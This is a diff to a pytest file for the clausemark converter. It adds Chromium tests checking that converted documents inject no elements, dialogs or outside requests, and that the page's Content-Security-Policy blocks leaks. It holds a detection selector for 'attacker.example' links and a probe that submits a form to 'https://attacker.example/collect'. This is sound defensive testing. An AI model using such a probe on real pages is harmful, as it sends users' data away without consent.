@@ -19,15 +19,18 @@ import zipfile
 from dataclasses import dataclass
 from html.parser import HTMLParser
 from pathlib import Path
+from urllib.parse import urlsplit
 
 import markdown
 import pytest
 import yaml
+from browser_support import serve_directory
 from clausemark.convert import convert_file
 from clausemark.parse.inline import convert_inline
 from clausemark.render.markdown_writer import escape_block
 from clausemark.support.escaping import link_scheme, markdown_text, safe_link
 from format_fixtures import WordParts, build_docx, hyperlink, para, run
+from playwright.sync_api import expect
 from pypdf import PdfWriter
 from site_builds import make_project, run_clausemark
 
@@ -395,3 +398,108 @@ def test_convert_writes_the_same_inert_markdown(markup_site, tmp_path):
         assert not BANNED_TAGS.search(rendered), (doc_id, BANNED_TAGS.search(rendered))
         assert SECRET not in rendered
     assert result.stderr.count(REFUSED) == 3 * len(FORMATS)
+
+
+# --- in Chromium: with the CSP, without it, and from the bundle --------------------------------
+
+CSP_META = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')
+# Anything a line would have made, had it got through (the site's own related-clause
+# lists are <details class="cm-related">; its page header is <dl class="cm-facts">).
+INJECTED_ELEMENTS = ", ".join(
+    [
+        *(f"article {selector.strip()}" for selector in INJECTED.split(",")),
+        "article [title*='<']",
+        "a[href^='//']",
+        "a[href*='evil.example']",
+        "a[href*='attacker.example']",
+        "abbr",
+        "iframe:not(body > iframe[hidden]:not([src]))",
+    ]
+)
+WATCH = """window.cmViolations = [];
+document.addEventListener('securitypolicyviolation',
+    (e) => window.cmViolations.push(e.violatedDirective + ' ' + e.blockedURI));"""
+
+
+def _strip_csp(route) -> None:
+    response = route.fetch()
+    route.fulfill(response=response, body=CSP_META.sub("", response.text()))
+
+
+def _off_machine(url: str) -> bool:
+    parts = urlsplit(url)
+    return parts.scheme in {"http", "https", "ws", "wss", "ftp"} and parts.hostname not in {
+        "127.0.0.1",
+        "localhost",
+    }
+
+
+@pytest.mark.build
+@pytest.mark.parametrize("where", ["http", "http-without-csp", "file"])
+def test_no_line_injects_anything_in_chromium(page, markup_site, where):
+    dialogs: list[str] = []
+    requests: list[str] = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    page.on("request", lambda r: requests.append(r.url) if _off_machine(r.url) else None)
+    page.add_init_script(WATCH)
+    if where == "http-without-csp":
+        page.route(re.compile(r".*(/|\.html)$"), _strip_csp)
+    if where == "file":
+        _visit_every_format(page, lambda doc: (markup_site.bundle / f"{doc}.html").as_uri(), where)
+    else:
+        with serve_directory(markup_site.site) as base:
+            _visit_every_format(page, lambda doc: f"{base}{doc}/", where)
+    assert dialogs == [] and requests == [], (dialogs, requests)
+    if where != "http-without-csp":
+        _the_policy_refuses_what_another_route_would_add(page)
+
+
+def _the_policy_refuses_what_another_route_would_add(page) -> None:
+    """The CSP itself: a remote image or a form sending data away is refused (on the
+    last page visited, still open)."""
+    page.evaluate(PROBE)
+    page.wait_for_function("() => window.cmViolations.length >= 2")  # no eval: the CSP
+    refused = sorted(v.split(" ")[0] for v in page.evaluate("window.cmViolations"))
+    assert refused == ["form-action", "img-src"], refused
+
+
+def _visit_every_format(page, address, where: str) -> None:
+    for doc_id in FORMATS:
+        page.goto(address(doc_id))
+        expect(page.locator("h1")).to_contain_text(TITLE)
+        csp = page.locator('meta[http-equiv="Content-Security-Policy"]').count()
+        assert csp == (0 if where == "http-without-csp" else 1)
+        assert page.locator(INJECTED_ELEMENTS).count() == 0, page.eval_on_selector_all(
+            INJECTED_ELEMENTS, "els => els.map(el => el.outerHTML.slice(0, 200))"
+        )
+        article = page.locator("article")
+        for line, _ in BLOCK_LINES:
+            expected = SHOWN_AS.get(line, line)
+            if expected is not None:
+                expect(article).to_contain_text(expected)
+        zanzibar = page.get_by_text("Zanzibar members meet in public.")
+        zanzibar.hover()  # an abbreviation's tooltip would show here
+        for titled in page.query_selector_all("article [title]")[:20]:
+            if titled.is_visible():
+                titled.hover(timeout=2000)
+        assert page.locator(INJECTED_ELEMENTS).count() == 0
+        if where != "http-without-csp":
+            assert page.evaluate("window.cmViolations") == []
+    page.keyboard.press("/")
+    page.keyboard.type("Zanzibar")
+    page.wait_for_selector(".md-search-result__item", timeout=15000)
+    assert page.locator(INJECTED_ELEMENTS).count() == 0
+    if where != "http-without-csp":
+        assert page.evaluate("window.cmViolations") == []
+
+
+PROBE = f"""() => {{
+    const image = document.createElement('img');
+    image.src = '{TRACKER}';
+    document.body.appendChild(image);
+    const form = document.createElement('form');
+    form.id = 'cm-probe-form';
+    form.action = 'https://attacker.example/collect';
+    document.body.appendChild(form);
+    form.submit();
+}}"""
